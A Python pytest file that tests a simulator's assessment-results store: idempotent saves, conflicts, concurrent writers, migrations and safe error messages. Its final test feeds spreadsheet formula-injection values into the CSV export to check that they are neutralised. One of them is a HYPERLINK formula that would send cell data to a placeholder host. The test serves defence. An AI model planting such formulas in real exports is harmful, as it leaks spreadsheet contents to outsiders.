"""The results store on SQLite and PostgreSQL: one row per attempt, idempotent re-storing,
conflicts reported, concurrent writers, schema created and upgraded by the migrations, and
the formula-safe CSV export."""

from __future__ import annotations

import csv
import json
import subprocess
import sys

import pytest
from store_backends import BACKENDS, store_url
from store_v1_schema import ddl

from scoring.cohort_report import write_csv
from scoring.scored import ScoredSession
from scoring.store import Store
from scoring.store.content import log_content_sha256
from scoring.store.migrate import head


@pytest.fixture(params=BACKENDS)
def url(request, tmp_path):
    with store_url(request.param, tmp_path) as u:
        yield u


def doc(run_id: str, content: str = "c", score: float = 81.5, trainee: str = "T",
        skill_group: str = "", log_sha256: str = "f" * 64) -> dict:
    """A score document (``score.json``) as an assessment would store it."""
    return {"format": 2, "run_id": run_id, "log_sha256": log_sha256,
            "content_sha256": content * 64, "trainee": trainee, "skill_group": skill_group,
            "scenario": "s", "scenario_title": "S", "modality": "ultrasound",
            "date": "2026-01-02T03:04:05+00:00", "passed": score >= 70, "score": score,
            "pass_score": 70.0, "hard_fails": [], "criteria": [], "replay_verified": True,
            "seed": 3, "simulator_version": "x",
            "metrics": {"tip_to_target_mm": {"value": 1.25, "unit": "mm", "label": "Tip",
                                             "display": "1.25 mm"},
                        "time_to_target_s": {"value": None, "unit": "s", "label": "Time",
                                             "display": "not reached"}}}


def rec(data: dict) -> dict:
    return {"scored": ScoredSession.from_dict(data)}


def test_one_row_per_attempt_updates_in_place_and_reports_conflicts(url):
    store = Store(url)
    saved = store.save([rec(doc("r1", skill_group="expert"))])
    assert (saved.added, saved.updated, saved.conflicts) == (1, 0, [])
    # the same attempt again (a copy of its log, or a re-score): updated, never a second row
    saved = store.save([rec(doc("r1", score=60.0, skill_group="expert",
                                log_sha256="e" * 64))])
    assert (saved.added, saved.updated, saved.conflicts) == (0, 1, [])
    # other content under the same run id (an edited log): a conflict, the row stays
    saved = store.save([rec(doc("r1", content="d", score=99.0)), rec(doc("r2", trainee="U"))])
    assert (saved.added, saved.updated, saved.conflicts) == (1, 0, ["r1"])
    rows = {r["run_id"]: r for r in store.sessions()}
    assert sorted(rows) == ["r1", "r2"]
    first = rows["r1"]
    assert first["score"] == 60.0 and first["passed"] is False
    assert first["content_sha256"] == "c" * 64 and first["log_sha256"] == "e" * 64
    assert first["metrics"] == {"tip_to_target_mm": 1.25, "time_to_target_s": None}
    assert json.loads(first["score_json"])["score"] == 60.0
    assert store.count() == (2, 4)
    assert store.known(["r1", "r2", "r3"]) == {"r1": "c" * 64, "r2": "c" * 64}
    store.close()
    # reopening (schema already at head) keeps everything
    store = Store(url)
    assert store.count() == (2, 4)
    store.close()


def test_log_digest_ignores_layout_but_not_values(tmp_path):
    records = [{"jointsim_log": 1, "run_id": "a"}, {"t": 1, "x": [1.5, -2]}, {"end": {}}]
    log = tmp_path / "a.jsonl"
    log.write_text("".join(json.dumps(r) + "\n" for r in records))
    copy = tmp_path / "copy.jsonl"
    copy.write_text("\n" + "".join(json.dumps(dict(reversed(r.items())), indent=None,
                                              separators=(" , ", " : ")) + "\n\n"
                                   for r in records) + "  \n")
    edited = tmp_path / "edited.jsonl"
    edited.write_text(log.read_text().replace("1.5", "1.50001"))
    assert log.read_bytes() != copy.read_bytes()
    assert log_content_sha256(copy) == log_content_sha256(log)
    assert log_content_sha256(edited) != log_content_sha256(log)


WRITER = """
import json, sys
from scoring.scored import ScoredSession
from scoring.store import Store
url, first, last, step = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
scored = ScoredSession.from_dict(json.loads(sys.argv[5]))
store = Store(url)
added = updated = 0
ids = list(range(first, last))[::step]
for start in range(0, len(ids), 10):
    saved = store.save([{"scored": scored.with_identity(run_id=f"r{i:03d}")}
                        for i in ids[start:start + 10]])
    assert not saved.conflicts, saved.conflicts
    added += saved.added
    updated += saved.updated
print(added, updated)
"""


def test_two_processes_write_overlapping_attempts_at_once(url):
    # both start on a store that does not exist yet: creating its schema races too
    procs = [subprocess.Popen([sys.executable, "-c", WRITER, url, *args, json.dumps(doc("x"))],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for args in (("0", "120", "1"), ("60", "180", "-1"))]
    results = [p.communicate(timeout=300) for p in procs]
    for p, (_, err) in zip(procs, results, strict=True):
        assert p.returncode == 0, err
    counts = [tuple(map(int, out.split())) for out, _ in results]
    assert sum(a for a, _ in counts) == 180 and sum(u for _, u in counts) == 60
    store = Store(url)
    assert store.count() == (180, 360)
    assert len({r["run_id"] for r in store.sessions()}) == 180
    store.close()


def test_a_store_made_by_jointsim_0_1_is_upgraded_in_place(url, tmp_path):
    from sqlalchemy import create_engine, text

    log = tmp_path / "attempt.jsonl"
    log.write_text('{"jointsim_log": 1, "run_id": "r1"}\n{"end": {}}\n')
    engine = create_engine(url)
    row = ("INSERT INTO sessions (run_id, log_sha256, trainee, skill_group, scenario, "
           "scenario_title, modality, started_utc, passed, score, pass_score, hard_fails, "
           "verified, seed, log_path, report_path, simulator_version, assessed_utc, "
           "score_json) VALUES (:run, :sha, 'T', 'expert', 's', 'S', 'ultrasound', "
           "'2026-01-02', true, :score, 70, 0, true, 1, :log, '', '0.1.0', '2026-01-03', '{}')")
    with engine.begin() as conn:
        for statement in ddl(engine.dialect.name):
            conn.execute(text(statement))
        # one attempt stored three times (copies of its log), and a second attempt
        for k, score in enumerate((70.0, 71.0, 72.0)):
            conn.execute(text(row), {"run": "r1", "sha": str(k) * 64, "score": score,
                                     "log": str(log)})
        conn.execute(text(row), {"run": "r2", "sha": "9" * 64, "score": 50.0,
                                 "log": str(tmp_path / "gone.jsonl")})
        for sid in (1, 2, 3, 4):
            conn.execute(text("INSERT INTO metrics VALUES (:s, 'm', 1.0)"), {"s": sid})
    engine.dispose()

    store = Store(url)
    rows = {r["run_id"]: r for r in store.sessions()}
    assert sorted(rows) == ["r1", "r2"] and store.count() == (2, 2)
    assert rows["r1"]["score"] == 72.0 and rows["r1"]["metrics"] == {"m": 1.0}
    assert rows["r1"]["content_sha256"] == log_content_sha256(log)
    assert rows["r2"]["content_sha256"] == ""  # log gone: filled when next assessed
    # now unique by run id: the upgraded store takes attempts like a new one
    saved = store.save([rec(doc("r2", score=55.0)), rec(doc("r3"))])
    assert (saved.added, saved.updated, saved.conflicts) == (1, 1, [])
    with store.engine.connect() as conn:
        assert conn.execute(text("SELECT version_num FROM alembic_version")).scalar() == head()
    store.close()


def test_the_migrations_build_exactly_the_schema_the_code_uses(url):
    from alembic.autogenerate import compare_metadata
    from alembic.runtime.migration import MigrationContext

    from scoring.store.schema import META

    store = Store(url)
    with store.engine.connect() as conn:
        diff = compare_metadata(MigrationContext.configure(conn), META)
    store.close()
    assert diff == []


def test_downgrading_to_the_first_schema_gives_back_its_tables(url):
    from alembic import command
    from sqlalchemy import inspect

    from scoring.store import _engine, check_url
    from scoring.store.migrate import _config

    store = Store(url)
    store.save([rec(doc("r1"))])
    setup = _engine(check_url(url), foreign_keys=False)  # as Store runs migrations
    with setup.begin() as conn:
        command.downgrade(_config(conn), "0001")
    setup.dispose()
    with store.engine.connect() as conn:
        columns = {c["name"] for c in inspect(conn).get_columns("sessions")}
        uniques = {u["name"] for u in inspect(conn).get_unique_constraints("sessions")}
    assert "content_sha256" not in columns and "log_sha256" in columns
    assert uniques == {"uq_session_log"}
    store.close()
    store = Store(url)  # and up again
    assert store.count() == (1, 2)
    store.close()


def test_a_store_from_a_newer_jointsim_is_refused_in_one_line(tmp_path):
    from sqlalchemy import text

    from simulator.errors import InputError

    url = f"sqlite:///{tmp_path / 'results.sqlite'}"
    store = Store(url)
    with store.engine.begin() as conn:
        conn.execute(text("UPDATE alembic_version SET version_num = '9999'"))
    store.close()
    with pytest.raises(InputError, match="made by a newer jointsim.*9999") as err:
        Store(url)
    assert "\n" not in str(err.value)


def test_an_unreachable_server_is_one_line_without_the_password():
    from simulator.errors import InputError

    with pytest.raises(InputError, match="cannot open the database") as err:
        Store("postgresql://user:s3cret@/db?host=/nonexistent-socket-dir")
    assert "s3cret" not in str(err.value) and "\n" not in str(err.value)


def test_csv_export_neutralises_spreadsheet_formulas(tmp_path):
    names = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
             "\tTab", "\rCR", "Ann Lee"]
    rows = [{"trainee": n, "skill_group": "", "scenario": "s", "started_utc": "",
             "run_id": f"r{k}", "status": "completed", "passed": True, "score": 80.0,
             "pass_score": 70.0,
             "hard_fails": 0, "verified": True, "seed": 1, "report_path": "",
             "log_path": "", "metrics": {"signed_mm": -1.5}} for k, n in enumerate(names)]
    with open(write_csv(rows, tmp_path / "s.csv"), newline="", encoding="utf-8") as f:
        table = list(csv.DictReader(f))
    assert [r["trainee"] for r in table] == [f"'{n}" for n in names[:-1]] + ["Ann Lee"]
    assert {r["signed_mm"] for r in table} == {"-1.5"}  # numbers stay numbers
